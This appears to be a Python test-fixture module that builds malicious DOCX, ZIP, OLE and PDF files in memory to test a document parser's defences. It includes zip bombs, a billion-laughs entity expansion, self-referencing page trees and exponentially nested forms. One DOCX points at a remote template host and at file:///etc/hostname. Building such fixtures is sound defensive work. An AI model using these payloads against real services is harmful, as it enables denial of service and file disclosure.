"""Files made to hurt whoever reads them, built in memory by name; none is kept."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
MAIN = f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
GOOD = "一、企业概况"


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body: str, *, before: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'


def parts(body: str = "", **more: str | bytes) -> dict[str, str | bytes]:
    """The parts of a small docx; keys of `more` are folders and name joined by double underscores."""
    return {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": RELATIONS.format(MAIN),
        "word/document.xml": document(body or paragraph(GOOD)),
        **{name.replace("__", "/"): content for name, content in more.items()},
    }


def packed(files: dict[str, str | bytes], *, level: int = 6) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(body: str = "", **more: str | bytes) -> bytes:
    return packed(parts(body, **more))


def twenty_million_paragraphs() -> bytes:
    head, tail = document("\0").split("\0")
    return _with_stream("word/document.xml", head.encode(), b"<w:p/>" * 10_000, 2000, tail.encode())


def zip_bomb(name: str = "word/document.xml") -> bytes:
    """One gigabyte of blanks in a part."""
    return _with_stream(name, b"", b" " * (1 << 20), 1024, b"")


def _with_stream(name: str, head: bytes, chunk: bytes, times: int, tail: bytes) -> bytes:
    """A docx with a part of head, `times` chunks and tail, without ever holding it unpacked: the chunk is deflated once."""
    first = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = first.compress(head) + first.flush(zlib.Z_FULL_FLUSH)
    middle = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = middle.compress(chunk) + middle.flush(zlib.Z_FULL_FLUSH)
    last = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = last.compress(tail) + last.flush(zlib.Z_FINISH)
    check = zlib.crc32(head)
    for _ in range(times if times * len(chunk) < 1 << 28 else 0):  # nobody comes to check the largest
        check = zlib.crc32(chunk, check)
    stream = start + body * times + end
    files = parts()
    files.pop(name, None)
    return append_entry(packed(files), name, stream, size=len(head) + len(chunk) * times + len(tail), check=zlib.crc32(tail, check))


def append_entry(archive: bytes, name: str, stream: bytes, *, size: int, check: int, offset: int | None = None) -> bytes:
    """The archive with one deflated entry more, saying of itself what it is told; with `offset` it has no data of its own."""
    end = archive.rindex(b"PK\5\6")
    count, directory_size, directory_at = struct.unpack("<HII", archive[end + 10 : end + 20])
    at = directory_at if offset is None else offset
    fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, check, len(stream), size, len(name), 0)
    local = b"" if offset is not None else b"PK\3\4" + fields + name.encode() + stream
    central = b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, at) + name.encode()
    directory = archive[directory_at : directory_at + directory_size] + central
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count + 1, count + 1, len(directory), directory_at + len(local), 0)
    return archive[:directory_at] + local + directory + tail


def laughing(part: str, *, encoding: str = "utf-8") -> bytes:
    """Billion laughs in a part of the docx."""
    files = parts()
    plain = files.get(part) or f'<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="{W}"/>'
    text = str(plain).replace("?>", f"?>{LAUGHS}", 1).replace("UTF-8", encoding.upper()).replace(GOOD, "&i;")
    return packed({**files, part: text.encode(encoding)})


def many_runs(count: int) -> bytes:
    """A paragraph of runs that differ, so that the ratio gives nothing away."""
    return docx("<w:p>" + "".join(f"<w:r><w:t>{number}字</w:t></w:r>" for number in range(count)) + "</w:p>")


def wide_table(columns: int) -> bytes:
    return docx("<w:tbl><w:tr>" + "".join(f"<w:tc>{paragraph(str(number))}</w:tc>" for number in range(columns)) + "</w:tr></w:tbl>")


def huge_spans() -> bytes:
    """A small table that says it is a thousand million columns wide."""
    wide = f'<w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{paragraph("甲")}</w:tc></w:tr>'
    late = f'<w:tr><w:trPr><w:gridBefore w:val="1000000000"/></w:trPr><w:tc>{paragraph("乙")}</w:tc></w:tr>'
    return docx(f"<w:tbl>{wide}{late}</w:tbl>{paragraph('丙')}")


def deep(depth: int) -> bytes:
    """Content controls inside content controls, each with an attribute of its own against the ratio."""
    opening = "".join(f'<w:sdt w:id="{number * 7919 % 1000003}"><w:sdtContent>' for number in range(depth))
    return docx(opening + paragraph("底") + "</w:sdtContent></w:sdt>" * depth)


def external_template() -> bytes:
    """Settings that point at a template on another machine, and a picture that lies there."""
    attached = f'<Relationship Id="rId9" Type="{R}/attachedTemplate" Target="http://198.51.100.7/x.dotm" TargetMode="External"/>'
    picture = f'<Relationship Id="rId9" Type="{R}/image" Target="file:///etc/hostname" TargetMode="External"/>'
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId9"/></w:settings>'
    main = f'<Relationship Id="rId2" Type="{R}/settings" Target="settings.xml"/>'
    return packed(
        {
            **parts(),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": RELATIONS.format(attached),
            "word/_rels/document.xml.rels": RELATIONS.format(main + picture),
        }
    )


def locked_pdf(*, password: str) -> bytes:
    """A PDF that opens with this password alone; an empty one means that only printing and the like are forbidden."""
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    buffer = io.BytesIO()
    canvas = Canvas(buffer, encrypt=StandardEncryption(password, ownerPassword="owner", canPrint=0))
    canvas.drawString(80, 700, "Quality Benchmark Practice of Tianheng Works")
    canvas.save()
    return buffer.getvalue()


def lying_size() -> bytes:
    """Says that a part of 100 MB has 500 bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = compressor.compress(b" " * 100_000_000) + compressor.flush()
    files = parts()
    files.pop("word/document.xml")
    return append_entry(packed(files), "word/document.xml", stream, size=500, check=0)


def overlapping() -> bytes:
    """A second part whose data are those of the first (as in Fifield's bomb)."""
    stream = zlib.compress(b"<a/>")[2:-4]
    archive = docx()
    return append_entry(archive, "word/styles.xml", stream, size=4, check=0, offset=archive.index(b"word/document.xml") - 30)


def duplicate_parts() -> bytes:
    archive = docx()
    stream = zlib.compress(document("").encode())[2:-4]
    return append_entry(archive, "word/Document.xml", stream, size=len(document("")), check=zlib.crc32(document("").encode()))


def encrypted_zip() -> bytes:
    data = bytearray(docx())
    for mark, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def nested_zip(depth: int = 12) -> bytes:
    """A docx that carries a docx that carries a docx …: harmless as long as nobody opens what is embedded."""
    data = docx()
    for _ in range(depth):
        data = docx(**{"word__embeddings__package.docx": data})
    return data


def compound_file(*streams: str, word_flags: int | None = None) -> bytes:
    """An OLE compound file of 512-byte sectors with a directory of these streams; `word_flags` fills WordDocument's header."""
    names = ["Root Entry", *streams]
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HBBIII", 2 * len(name) + 2, 1 if number else 5, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        + bytes(36)
        + struct.pack("<IQ", 2, 512)
        for number, name in enumerate(names)
    ).ljust(512, b"\0")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(24, b"\0") + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    header += bytes(6) + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + b"\xff" * 432
    fat = struct.pack("<III", 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE).ljust(512, b"\xff")
    content = struct.pack("<HHHHHH", 0xA5EC, 0xC1, 0, 0x804, 0, word_flags or 0).ljust(512, b"\0")
    return header[:512].ljust(512, b"\xff") + fat + entries + content


def pdf(*objects: str | bytes) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, content in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + (content if isinstance(content, bytes) else content.encode()) + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % at for at in offsets)
    return bytes(out + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def stream(content: bytes, entries: str = "") -> bytes:
    packed_content = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(packed_content), entries.encode()) + packed_content + b"\nendstream"


PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
CATALOGUE = "<< /Type /Catalog /Pages 2 0 R >>"
FONT = "/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"


def page_tree_loop() -> bytes:
    return pdf(
        CATALOGUE, "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 100000 >>", "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 /Parent 2 0 R >>"
    )


def million_pages() -> bytes:
    kids = "3 0 R " * 1_000_000
    return pdf(CATALOGUE, f"<< /Type /Pages /Kids [{kids}] /Count 1000000 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")


def endless_content() -> bytes:
    """A page whose content unpacks to 200 MB of text operators."""
    text = stream(b"BT /F 12 Tf 50 700 Td (stop) Tj ET\n" * 6_000_000)
    return pdf(CATALOGUE, PAGES, f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R {FONT} >>", text)


def form_loop() -> bytes:
    """A form that draws itself twice."""
    form = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 5 0 R >> >>"
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    return pdf(CATALOGUE, PAGES, page, stream(b"/X Do"), stream(b"/X Do /X Do", form))


def doubling_forms(depth: int = 40) -> bytes:
    """Forms each of which draws the next one twice: 2 to the 40th draws."""
    page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    entry = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X {} 0 R >> >>"
    forms = [stream(b"/X Do /X Do", entry.format(6 + number)) for number in range(depth)]
    return pdf(CATALOGUE, PAGES, page, stream(b"/X Do"), *forms, stream(b"BT ET", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"))
